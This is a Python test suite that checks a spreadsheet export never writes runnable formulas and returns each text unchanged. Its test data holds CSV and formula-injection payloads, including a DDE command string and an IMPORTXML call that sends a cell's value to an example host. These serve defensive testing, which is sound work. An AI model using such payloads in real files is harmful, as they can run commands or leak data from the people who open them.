"""Nothing that goes out is run by a spreadsheet, and every text comes back as it was."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterable
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from entente.engines.exchange.files import child
from entente.engines.exchange.files.sheet import MOST_TEXT, Heading, Sheet, Value, Wrong
from entente.engines.exchange.files.writing import FORMATS, write
from entente.engines.exchange.values import day_of, written

RUN = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ATTACKS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://entente.example","x")', "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "'=1+1", "''=1+1", "' =1", "＝1+1", "@@", "=DDE(\"a\";\"b\")",
    "+33 1 02 03 04 05", "-", "'", "'abc", "{=1}", "_x0041_", "_x003D_1+1", '"=1+1"', "a\n=1+1", "a;=1+1", "<f>1</f>",
    '=IMPORTXML(CONCAT("http://entente.example/";A1);"//a")', "0012", "1e5", "TRUE", "#N/A", "2014-12-31",
)  # fmt: skip
SIGNS = st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff")
TEXTS = st.one_of(
    st.sampled_from(ATTACKS),
    st.builds(lambda start, rest: start + rest, st.sampled_from((*RUN, "'", "''", " ", "'=", "_x")), st.text(SIGNS)),
    st.text(SIGNS),
)


def written_out(
    cells: Iterable[Value | Wrong], kind: str, folder: Path, language: str = "en", shape: str = "text"
) -> Path:
    """Return a file with each cell on a row of its own, after a heading that would be run."""
    place = folder / f"sheet.{kind}"
    headings = [Heading("=1+1", ("=1", "@x"), kind=shape), Heading("n")]
    write(Sheet("=A1", headings, [[cell, 1] for cell in cells], language, help=[("=1+1", "=1+1")]), kind, place)
    return place


def read_back(place: Path, kind: str) -> list[Any]:
    """Return the first cell of each row below the heading."""
    book: Any = child.Text(place) if kind == "csv" else child.Book(place, kind)
    book.heads()
    return [row[0] for row in book.rows(0)][1:]


def formulas(place: Path, kind: str) -> list[str]:
    """Return what a spreadsheet would run in a file."""
    if kind == "csv":
        rows = csv.reader(io.StringIO(place.read_text("utf-8-sig"), newline=""))
        return [cell for row in rows for cell in row if cell.lstrip(" \u00a0").startswith(RUN)]
    with zipfile.ZipFile(place) as archive:
        parts = [archive.read(name).decode() for name in archive.namelist()
                 if name.startswith("xl/worksheets/") or name == "content.xml"]  # fmt: skip
    return [found for part in parts for found in re.findall(r"<f[ >/]|table:formula|<hyperlink|<text:a", part)]


def seen(text: str) -> str:
    """Return a text as a reader compares it: without spaces around it."""
    return text.strip().replace("\r\n", "\n")


@pytest.mark.parametrize("kind", FORMATS)
def test_attacks_are_texts(kind: str, tmp_path: Path) -> None:
    place = written_out(ATTACKS, kind, tmp_path)
    assert formulas(place, kind) == []
    back = [written(cell) for cell in read_back(place, kind)]
    for before, after in zip(ATTACKS, back, strict=True):
        # What a workbook's XML cannot hold is left out; it is no part of any stored text.
        assert after.replace("\r", "") == seen(before).replace("\r", ""), kind


@pytest.mark.parametrize("kind", FORMATS)
@settings(max_examples=60, deadline=None, database=None, suppress_health_check=list(HealthCheck))
@given(cells=st.lists(TEXTS, min_size=1, max_size=40))
def test_whatever_is_written_is_never_run_and_comes_back(kind: str, tmp_path: Path, cells: list[str]) -> None:
    place = written_out(cells, kind, tmp_path)
    assert formulas(place, kind) == []
    assert [written(cell) for cell in read_back(place, kind)] == [seen(cell) for cell in cells]


@pytest.mark.parametrize("kind", FORMATS)
def test_refused_cells_go_back_as_they_came(kind: str, tmp_path: Path) -> None:
    """A day refused in a column of numbers, sent back as a bare number, would pass the second time."""
    place = written_out([Wrong(text, "=1+1") for text in ATTACKS], kind, tmp_path)
    assert formulas(place, kind) == []
    wrong = [Wrong(date(2014, 12, 31), "no number"), Wrong("12", "no number"), date(2014, 12, 31)]
    back = [written(cell) for cell in read_back(written_out(wrong, kind, tmp_path, shape="decimal"), kind)]
    assert back == ["2014-12-31", "12", "2014-12-31"]


@pytest.mark.parametrize("kind", FORMATS)
@pytest.mark.parametrize("language", ["fr", "en"])
def test_values_that_are_no_texts_come_back(kind: str, language: str, tmp_path: Path) -> None:
    """A spreadsheet's calendar begins in 1900: a day before it is written as a text, not lost."""
    days = [date(2014, 12, 31), date(1850, 5, 1), date(1899, 12, 31), date(1900, 1, 1), date(1904, 1, 1)]
    back = read_back(written_out(days, kind, tmp_path, language, "day"), kind)
    assert [day_of(cell) for cell in back] == days
    numbers = [Decimal("-1500.50"), Decimal("0.01"), 7, -3]
    back = read_back(written_out(numbers, kind, tmp_path, language), kind)
    assert [Decimal(str(cell).replace(",", ".")) for cell in back] == numbers


@pytest.mark.parametrize("kind", FORMATS)
def test_signs_that_a_file_cannot_hold_do_not_break_it(kind: str, tmp_path: Path) -> None:
    cells = ["a\x00b", "a\x0bc", "a\ufffeb", "a\uffff", "x" * (MOST_TEXT + 9)]
    back = [written(cell) for cell in read_back(written_out(cells, kind, tmp_path), kind)]
    assert len(back) == len(cells)
    assert all(text.startswith(("a", "x")) for text in back)
